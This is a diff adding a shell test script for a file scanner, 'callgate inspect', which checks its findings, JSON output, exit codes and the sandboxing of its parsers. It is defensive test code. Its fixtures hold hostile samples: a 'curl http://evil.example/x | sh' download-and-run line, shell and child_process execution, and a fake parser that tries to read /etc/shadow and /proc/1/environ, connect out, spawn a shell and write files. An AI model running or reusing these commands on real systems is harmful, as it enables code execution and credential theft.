@@ -1,0 +1,176 @@
+#!/bin/bash
+# callgate inspect: what it finds in Python, shell, JavaScript and ELF files, how it prints that, its exit statuses; and
+# that a parser which a hostile file has taken over can tell nothing but findings, and reach nothing.
+. "$(dirname "$0")/../lib.sh"
+need jq python3
+export CALLGATE_PARSERS=$SRC/cli/inspect/parsers
+
+# finds FILE LINE KIND WHAT [OPTION…]: a line of the output, exactly.
+finds()
+{
+	local file=$1 wanted="$1${2:+:$2}: $3: $4"
+	shift 4
+	cg inspect "$@" "$file" >"$T/out" 2>"$T/err"
+	grep -qxF -- "$wanted" "$T/out" || fail "not found: $wanted; but: $(cat "$T/out" "$T/err")"
+}
+
+# ends STATUS OPTION…
+ends()
+{
+	local wanted=$1 status
+	shift
+	cg inspect "$@" >"$T/out" 2>"$T/err"
+	status=$?
+	[ $status = "$wanted" ] || fail "inspect $*: status $status, not $wanted: $(cat "$T/out" "$T/err")"
+}
+
+cd "$T" || exit 99
+printf 'import os\nimport json as j\nprint(os.getcwd())\n' >plain.py
+printf '#!/usr/bin/env python3\nfrom os import system as s\ns("curl http://evil.example/x | sh")\n' >script
+printf 'import (\n' >broken.py
+printf '#!/bin/sh\nif true; then\necho id | sh\n' >broken.sh
+printf 'hello\n' >text
+printf 'a\0b' >data.py
+printf 'password = "hunter2"\nAPI_TOKEN = "q8Zr3kP0vX2mLs7Td4Wn"\n' >secret.env
+printf -- '-----BEGIN RSA %s KEY-----\n' PRIVATE >key
+printf 'x = "\xe2\x80\xae"\ny\xe2\x80\x8b = "\033[2J"\n' >bidi.py
+
+# What is found, and the exit status.
+finds plain.py 1 import os
+finds plain.py 2 import json
+finds script 2 process 'import os.system'
+finds script 3 download-run 'curl http://evil.example/x | sh'
+finds broken.py 1 syntax "invalid syntax"
+cg inspect broken.sh >out
+grep -q ':4: syntax: syntax error: unexpected end of file' out || fail "broken.sh: $(cat out)"
+finds text '' not-parsed 'no parser for this kind of file'
+finds data.py '' not-parsed 'no parser for this kind of file'
+finds secret.env 2 secret 'random value of 20 characters, named as a secret'
+! grep -q ':1:\|q8Zr' out || fail "secret.env: $(cat out)"
+finds key 1 secret 'private key'
+finds bidi.py 1 bidirectional 'character that reorders the line: U+202E'
+finds bidi.py 2 invisible 'invisible character U+200B'
+finds bidi.py 2 invisible 'control character U+001B'
+ends 0 plain.py
+ends 1 --fail-on note plain.py
+ends 0 broken.py
+ends 1 --fail-on warning broken.py
+ends 1 script plain.py
+ends 0 --fail-on none script
+ends 1 bidi.py
+cg inspect --level alarm script >out
+[ "$(wc -l <out)" = 1 ] || fail "--level alarm prints: $(cat out)"
+ends 125
+ends 125 nonexistent
+ends 125 "$T"
+ends 125 script nonexistent
+ends 125 --fail-on worst script
+ends 125 --type perl script
+ends 0 --type text script
+
+# Modules outside of the allowlist.
+ends 1 --allow-module os plain.py
+finds plain.py 2 module json --allow-module os
+ends 0 --allow-module @standard plain.py
+ends 0 --allow-module os --allow-module json plain.py
+
+# JSON, and names with every byte.
+name=$'evil\nname\033[2J\xff.py'
+cp script "$name"
+cg inspect "$name" >out
+grep -q '^evil\\u000aname\\u001b\[2J\\xff.py:3: download-run' out || fail "name is printed: $(cat out)"
+cg inspect --json "$name" plain.py >out
+[ $? = 1 ] || fail "--json: status"
+jq -e '.schema == "callgate-inspect/1" and (.files | length) == 2 and .files[1].type == "python" and
+	(.files[0].findings | any(.kind == "download-run" and .level == "alarm" and .line == 3)) and
+	(.files[1].findings | all(.level == "note"))' out >/dev/null || fail "--json: $(cat out)"
+
+if command -v node >/dev/null; then
+	printf '%s\n' '#!/usr/bin/env node' 'const { exec: run } = require("child_process");' 'run("id");' \
+		'eval(atob("MQ=="));' >j
+	finds j 3 process 'run("id")'
+	finds j 4 obfuscated 1
+	printf 'let let = 1;\n(' >bad.js
+	grep -q '^bad.js:[12]: syntax: ' < <(cg inspect bad.js) || fail "bad.js: $(cg inspect bad.js)"
+fi
+
+# ELF files.
+finds /bin/sh '' loader "$(python3 - <<'END'
+import re
+print(re.search(rb"/lib[^\0]*/ld-[^\0]*", open("/bin/sh", "rb").read()).group().decode())
+END
+)"
+grep -q '^/bin/sh: needs: libc.so.6 from /' out || fail "/bin/sh: $(cat out)"
+printf '\177ELF\2\1\1' >short
+finds short '' unparsable 'could not be parsed: the parser ended with status failed (1)'
+head -c 3000 /bin/sh >short2
+cg inspect short2 >out
+grep -q '^short2: unparsable: ' out || fail "a cut ELF file: $(cat out)"
+if command -v cc >/dev/null; then
+	mkdir libs
+	echo 'int f(void) { return 1; }' | cc -shared -o libs/libown.so -x c -
+	echo 'int f(void); int main(void) { return f(); }' >m.c
+	# shellcheck disable=SC2016 # the loader's
+	cc -o own m.c -Llibs -lown -z execstack -Wl,-rpath,'$ORIGIN/libs:rel:/tmp/x' 2>/dev/null
+	finds own '' needs "libown.so from $T/libs/libown.so"
+	finds own '' executable-stack 'the stack is executable (PT_GNU_STACK)'
+	finds own '' unsafe-rpath '"rel" is relative to the working directory'
+	finds own '' unsafe-rpath '"/tmp/x" is below a directory that all can write to'
+	chmod 4755 own
+	finds own '' set-id "mode 4755: runs with its owner's rights"
+	rm libs/libown.so
+	finds own '' missing-library libown.so
+fi
+
+# A parser that a hostile file has taken over.
+mkdir "$T/parsers"
+cp "$SRC"/cli/inspect/parsers/*.json "$T/parsers/"
+jq '.limits.wall = "1s" | .limits.memory = "100M"' "$SRC/cli/inspect/parsers/policy.json" >"$T/parsers/policy.json"
+# hostile REGEX: the parser is this Python program.
+hostile()
+{
+	cat >"$T/parsers/python.py"
+	CALLGATE_PARSERS=$T/parsers cg inspect plain.py >out 2>&1
+	status=$?
+	if ! grep -qxE "plain.py: unparsable: could not be parsed: the parser ($1)" out || [ $status != 1 ]; then
+		fail "a parser: not \"$1\" but, with status $status: $(head -c 500 out)"
+	fi
+}
+printed='printed what it may not'
+hostile "$printed" <<<'print("garbage")'
+hostile "$printed" <<<''
+hostile "$printed" <<<'print("1 import os")'
+hostile "$printed" <<<'print("1 import os\nend 2")'
+hostile "$printed" <<<'print("end 0\n1 import os")'
+hostile "$printed" <<<'print("1 trusted yes\nend 1")'
+hostile "$printed" <<<'print("99 import os\nend 1")'
+hostile "$printed" <<<'print("1 import os\x1b[2J\nend 1")'
+hostile "$printed" <<<'print("1 import " + "x" * 5000 + "\nend 1")'
+hostile "$printed" <<<'print("1 import os\n" * 50000 + "end 50000")'
+hostile "ended with status limit .137." <<<'print("1 import os\n" * 500000 + "end 500000")'
+hostile "ended with status failed .139." <<<'import os; os.kill(os.getpid(), 11)'
+hostile "ended with status timeout .124." <<<'while True: pass'
+hostile "ended with status limit .137.|ended with status failed .1." <<<'x = b"x" * 10**9'
+cat >"$T/parsers/python.py" <<END
+import os, socket
+got = []
+for path in ("$CALLGATE", "/etc/shadow", "/etc/profile", "/etc/ssl", "/proc/1/environ"):
+    try:
+        got.append(os.listdir(path) if os.path.isdir(path) else open(path, "rb").read(10))
+    except OSError:
+        pass
+for what in (lambda: socket.create_connection(("1.1.1.1", 53), 1), lambda: os.execv("/bin/sh", ["sh"]),
+             lambda: open("/etc/callgate-written", "w"), lambda: open("$BUILD/callgate-written", "w")):
+    try:
+        got.append(what())
+    except OSError:
+        pass
+print("1 import %s\nend 1" % (got or "nothing"))
+END
+[ "$(CALLGATE_PARSERS=$T/parsers cg inspect plain.py)" = "plain.py:1: import: nothing" ] ||
+	fail "a parser reached: $(CALLGATE_PARSERS=$T/parsers cg inspect plain.py)"
+if [ -e /etc/callgate-written ] || [ -e "$BUILD/callgate-written" ]; then
+	fail "a parser wrote a file"
+fi
+kept=$(find "$TMPDIR/callgate-$(id -u)/results" -type f 2>/dev/null)
+[ -z "$kept" ] || fail "output of parsers is kept: $kept"
